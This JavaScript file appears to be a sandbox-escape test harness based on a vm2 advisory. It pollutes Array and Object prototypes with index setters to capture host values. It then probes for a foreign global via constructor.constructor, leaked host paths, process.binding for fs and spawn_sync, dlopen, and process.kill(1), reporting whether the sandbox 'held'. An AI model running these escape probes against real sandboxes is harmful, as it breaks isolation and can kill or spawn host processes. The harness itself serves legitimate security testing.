// GHSA-9qj6-qjgg-37qq, vm2: a setter for a number on `Array.prototype` is called when the membrane, in the same realm, fills a list of its
// own, and takes what is written.
const attacks = {
  "setters for numbers": {
    ends: ["ok", "app-threw"],
    async run(request) {
      for (let i = 0; i < 16; i++) {
        for (const prototype of [Array.prototype, Object.prototype])
          Object.defineProperty(prototype, i, {
            set(value) {
              kept[`value ${kept.count++}`] = value;
              Object.defineProperty(this, i, { value, writable: true, configurable: true, enumerable: true });
            },
            configurable: true,
          });
      }
      try {
        console.log("x", [1], { a: 1 });
        new Headers({ a: "b" }).get("a");
        new URL("http://a/?b=c").searchParams.get("b");
        await request.text();
        await fetch("http://127.0.0.1/").catch(() => {});
        structuredClone([[1], [2]]);
        setTimeout(() => {}, 0, 1, 2);
        new EventTarget().addEventListener("x", () => {});
        await new Response(new Blob(["x"]).stream()).text();
      } finally {
        for (let i = 0; i < 16; i++) (delete Array.prototype[i], delete Object.prototype[i]);
      }
      return probe(...Object.values(kept));
    },
  },
};
const kept = { __proto__: null, count: 0 };

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
